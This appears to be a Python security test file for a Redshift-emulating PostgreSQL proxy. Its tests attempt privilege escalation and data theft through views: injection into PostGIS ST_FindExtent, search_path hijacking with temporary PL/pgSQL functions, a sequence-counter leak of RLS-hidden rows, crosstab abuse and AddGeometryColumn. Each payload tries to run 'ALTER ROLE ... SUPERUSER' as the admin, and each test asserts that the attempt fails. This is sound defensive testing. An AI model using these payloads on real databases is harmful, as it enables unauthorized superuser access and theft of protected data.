"""Attacks on main's newest change (catalog/users_code.sql, d0cc538 and before): nothing of a
user's, and no built-in that acts as its caller, may run with the rights of whoever reads their
view, writes their table or calls their function, an admin above all (a PostgreSQL superuser on
the embedded backend). Every test fails on main now."""

from __future__ import annotations

import psycopg

from ..conftest import unique
from .test_attack17 import _drop_all


def _attempt(conn, statement: str) -> None:
    try:
        conn.execute(statement)
    except psycopg.Error:
        pass  # refused: what the attacker must get


def _literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _is_superuser(proxy, name: str, password: str) -> bool:
    with proxy.connect(name, password) as conn:
        return conn.execute("SELECT rolsuper FROM pg_roles WHERE rolname = current_user").fetchone()[0]


def _demote(postgres, name: str) -> None:
    with postgres.connect() as direct:
        direct.execute(f"ALTER ROLE {name} NOSUPERUSER")


def _admin_reads(proxy, statement: str) -> None:
    with proxy.connect() as admin:
        try:
            admin.execute(statement).fetchall()
        except psycopg.Error:
            pass  # refused: what the attacker must get


def test_postgis_st_findextent_in_a_users_view_does_not_run_the_users_sql_as_the_admin(proxy, new_user, postgres):
    """PostGIS's ST_FindExtent(schema, table, column), installed in pg_catalog by shiftguard
    (a trusted owner) and STABLE, so runs_for_anyone lets a user's view call it, builds its
    query as 'SELECT ST_Extent("' || column || '") FROM "' || schema || '"."' || table || '"'
    and EXECUTEs it as its caller: a double quote in the column name ends the identifier, and the
    rest is any SELECT of the user's, run with the rights of whoever reads the view. A STABLE
    function may only run SELECTs, but a SELECT may call volatile functions, whose own statements
    are not read-only: shiftguard.caller_execute (anyone's to call; it EXECUTEs its text as the
    caller) runs ALTER ROLE as the admin, a PostgreSQL superuser."""
    name, password = new_user()
    view = unique("v")
    column = (f"""g") AS extent FROM (SELECT NULL::geometry AS g, shiftguard.caller_execute('ALTER ROLE {name} """
              f"""SUPERUSER', NULL)::text AS z OFFSET 0) s --""")
    with proxy.connect(name, password) as mallory:
        _attempt(mallory, f"CREATE VIEW public.{view} AS SELECT st_findextent('a', 'b', {_literal(column)}) AS extent")
        _attempt(mallory, f"GRANT SELECT ON public.{view} TO PUBLIC")
    try:
        _admin_reads(proxy, f"SELECT * FROM public.{view}")
        assert not _is_superuser(proxy, name, password)
    finally:
        _demote(postgres, name)


def test_a_users_temporary_function_is_not_reached_through_a_search_path_set_on_their_function(proxy, new_user, postgres):
    """A user may make PL/pgSQL functions in their temporary schema (users_code_refusal lets them
    be: "only their session names them") and may give their SQL functions SET search_path (the
    one setting allowed), to any schema, their session's temporary one by its name (pg_temp_N)
    too. PostgreSQL searches the session's own temporary schema for no function, but another
    session's named in search_path is an ordinary schema, which a superuser may use. The user's
    SQL function calls PostGIS's postgis_full_version() (IMMUTABLE, trusted: runs_for_anyone),
    whose PL/pgSQL body calls postgis_raster_scripts_installed() unqualified, under the caller's
    search_path (it pins none): while the user's first session lasts, the admin reading their
    view runs the user's temporary PL/pgSQL function of that name, as a PostgreSQL superuser."""
    name, password = new_user()
    view, function = unique("v"), unique("f_")
    with proxy.connect(name, password) as first:
        _attempt(first, f"""CREATE FUNCTION pg_temp.postgis_raster_scripts_installed() RETURNS text LANGUAGE plpgsql AS $$
            BEGIN
              BEGIN EXECUTE format('ALTER ROLE %I SUPERUSER', '{name}'); EXCEPTION WHEN OTHERS THEN NULL; END;
              RETURN 'x';
            END $$""")
        temporary = first.execute("SELECT pg_my_temp_schema()::regnamespace::text").fetchone()[0]
        with proxy.connect(name, password) as mallory:
            _attempt(mallory, f"CREATE FUNCTION public.{function}() RETURNS text LANGUAGE sql "
                              f"SET search_path = {temporary}, pg_catalog RETURN postgis_full_version()")
            _attempt(mallory, f"CREATE VIEW public.{view} AS SELECT length(public.{function}()) AS n")
            _attempt(mallory, f"GRANT SELECT ON public.{view} TO PUBLIC")
        try:
            _admin_reads(proxy, f"SELECT * FROM public.{view}")
            assert not _is_superuser(proxy, name, password)
        finally:
            _demote(postgres, name)


def test_a_users_view_does_not_write_what_another_user_reads_through_it_into_the_users_sequences(proxy, new_user):
    """runs_for_anyone lets a user's view call nextval ("it only makes a value") on sequences of
    the user's, and the view's rows of a table under RLS are those the reader's attachment
    shows (current_user is the reader). So the view writes, in the reader's query, what only the
    reader sees into state the user reads afterwards: per character of the victim's row, a
    sequence advanced as many times as the character's code. The same theft attack20's test of
    a PL/pgSQL function in a user's view refuses, with no function of the user's at all."""
    mallory_name, mallory_password = new_user()
    victim, victim_password = new_user()
    table, policy, view = unique("t"), unique("p"), unique("v")
    sequence = unique("s")
    with proxy.connect() as admin:
        admin.execute(f"CREATE TABLE public.{table} (region varchar(16))")
        admin.execute(f"INSERT INTO public.{table} VALUES ('VICTIM-ROW')")
        admin.execute(f"GRANT SELECT ON public.{table} TO {victim}, {mallory_name}")
        admin.execute(f"CREATE RLS POLICY {policy} USING (true)")
        admin.execute(f"ATTACH RLS POLICY {policy} ON public.{table} TO {victim}")
        admin.execute(f"ALTER TABLE public.{table} ROW LEVEL SECURITY ON")
    try:
        with proxy.connect(mallory_name, mallory_password) as mallory:
            assert mallory.execute(f"SELECT region FROM public.{table}").fetchall() == []
            for i in range(1, 11):
                mallory.execute(f"CREATE SEQUENCE public.{sequence}_{i}")
                mallory.execute(f"GRANT USAGE ON SEQUENCE public.{sequence}_{i} TO PUBLIC")
            _attempt(mallory, f"""CREATE VIEW public.{view} AS SELECT t.region,
                (SELECT count(nextval(('public.{sequence}_' || i)::regclass))
                   FROM generate_series(1, 10) i, generate_series(1, ascii(substr(t.region, i, 1))) k) AS n
                FROM public.{table} t""")
            _attempt(mallory, f"GRANT SELECT ON public.{view} TO PUBLIC")
        with proxy.connect(victim, victim_password) as conn:
            try:
                conn.execute(f"SELECT region FROM public.{view}").fetchall()
            except psycopg.Error:
                pass  # refused: what the attacker must get
        with proxy.connect(mallory_name, mallory_password) as mallory:
            codes = [mallory.execute(f"SELECT CASE WHEN is_called THEN last_value ELSE 0 END "
                                     f"FROM public.{sequence}_{i}").fetchone()[0] for i in range(1, 11)]
            stolen = "".join(chr(c) for c in codes if 0 < c < 0x110000)
            assert "VICTIM" not in stolen, stolen
    finally:
        _drop_all(proxy, [f"ALTER TABLE public.{table} ROW LEVEL SECURITY OFF",
                          f"DETACH RLS POLICY {policy} ON public.{table} FROM {victim}",
                          f"DROP RLS POLICY IF EXISTS {policy}", f"DROP TABLE public.{table} CASCADE"])


def test_a_trusted_extension_a_user_installs_gives_no_stable_function_that_runs_their_sql_as_the_admin(proxy, new_user, postgres):
    """A user granted CREATE on the database (what Redshift's GRANT CREATE ON DATABASE gives, to
    make schemas) installs a trusted extension from a DO block (the proxy refuses CREATE
    EXTENSION only as it sees it): PostgreSQL runs its script as the bootstrap superuser, the
    management role here, so its functions are a trusted role's. tablefunc's crosstab(text) is
    STABLE and runs the query it is given as its caller: runs_for_anyone lets the user's view
    call it, and the admin reading the view runs shiftguard.caller_execute (volatile, anyone's
    to call) from that query, making the user a superuser."""
    name, password = new_user()
    view = unique("v")
    with proxy.connect() as admin:
        admin.execute(f"GRANT CREATE ON DATABASE dev TO {name}")
    try:
        with proxy.connect(name, password) as mallory:
            _attempt(mallory, "DO $$ BEGIN EXECUTE 'CREATE EXTENSION IF NOT EXISTS tablefunc'; END $$")
            query = (f"SELECT 'a'::text, 'b'::text, shiftguard.caller_execute('ALTER ROLE {name} SUPERUSER', NULL)::text")
            _attempt(mallory, f"CREATE VIEW public.{view} AS SELECT * FROM crosstab({_literal(query)}) "
                              f"AS ct(row_name text, c1 text)")
            _attempt(mallory, f"GRANT SELECT ON public.{view} TO PUBLIC")
        _admin_reads(proxy, f"SELECT * FROM public.{view}")
        assert not _is_superuser(proxy, name, password)
    finally:
        with postgres.connect() as direct:
            direct.execute(f"ALTER ROLE {name} NOSUPERUSER")
            direct.execute(f"DROP VIEW IF EXISTS public.{view}")
            direct.execute("DROP EXTENSION IF EXISTS tablefunc")


def test_a_users_late_binding_view_does_not_set_the_readers_search_path_to_the_users_temporary_functions(proxy, new_user, postgres):
    """shiftguard.make_late_binding_function(view, query) is anyone's to call for a view they own:
    the management role makes the view read a PL/pgSQL function that runs the query given, which
    no guard of users_code.sql looks at (the management role is trusted; the query is a string in
    the _rows function's body), as the view's owner (SECURITY DEFINER) but in the reader's
    session. set_config(..., false) there outlives the function (an ordinary SET inside a
    function with a SET clause persists): the admin's search_path becomes the user's temporary
    schema first, and the admin's next lower('...') runs the user's temporary PL/pgSQL
    pg_temp_N.lower(text) (made where users_code_refusal lets it be) as a PostgreSQL superuser."""
    name, password = new_user()
    view = unique("v")
    with proxy.connect(name, password) as mallory:
        _attempt(mallory, f"""CREATE FUNCTION pg_temp.lower(text) RETURNS text LANGUAGE plpgsql AS $$
            BEGIN
              BEGIN EXECUTE format('ALTER ROLE %I SUPERUSER', '{name}'); EXCEPTION WHEN OTHERS THEN NULL; END;
              RETURN 'x';
            END $$""")
        temporary = mallory.execute("SELECT pg_my_temp_schema()::regnamespace::text").fetchone()[0]
        _attempt(mallory, f"CREATE VIEW public.{view} AS SELECT 1 AS x")
        _attempt(mallory, f"GRANT SELECT ON public.{view} TO PUBLIC")
        query = f"SELECT length(pg_catalog.set_config('search_path', '{temporary}, pg_catalog, public', false)) AS x"
        _attempt(mallory, f"SELECT shiftguard.make_late_binding_function('public.{view}', {_literal(query)})")
        try:
            with proxy.connect() as admin:
                try:
                    admin.execute(f"SELECT x FROM public.{view}").fetchall()
                    admin.execute("SELECT lower('ABC')").fetchall()
                except psycopg.Error:
                    pass  # refused: what the attacker must get
            assert not _is_superuser(proxy, name, password)
        finally:
            _demote(postgres, name)


def test_postgis_addgeometrycolumn_in_a_users_view_does_not_alter_the_admins_table(proxy, new_user):
    """PostGIS's AddGeometryColumn(schema, table, column, srid, type, dims, typmod) is declared
    STABLE (a PL/pgSQL wrapper, trusted: runs_for_anyone) but SELECTs the volatile
    eight-argument AddGeometryColumn, which runs ALTER TABLE ... ADD COLUMN as its caller. A
    user's view calling it alters, when the admin reads it, any table the admin may alter: here
    the admin's own table, which the user may not even read."""
    name, password = new_user()
    table, view = unique("t"), unique("v")
    with proxy.connect() as admin:
        admin.execute(f"CREATE TABLE public.{table} (a integer)")
    try:
        with proxy.connect(name, password) as mallory:
            _attempt(mallory, f"CREATE VIEW public.{view} AS SELECT addgeometrycolumn('public', '{table}', "
                              f"'mallory_was_here', 4326, 'POINT', 2, true) AS r")
            _attempt(mallory, f"GRANT SELECT ON public.{view} TO PUBLIC")
        _admin_reads(proxy, f"SELECT * FROM public.{view}")
        with proxy.connect() as admin:
            columns = [r[0] for r in admin.execute(
                "SELECT attname FROM pg_attribute WHERE attrelid = %s::regclass AND attnum > 0 AND NOT attisdropped "
                "ORDER BY attnum", (f"public.{table}",)).fetchall()]
        assert columns == ["a"], columns
    finally:
        _drop_all(proxy, [f"DROP VIEW IF EXISTS public.{view}", f"DROP TABLE public.{table}"])
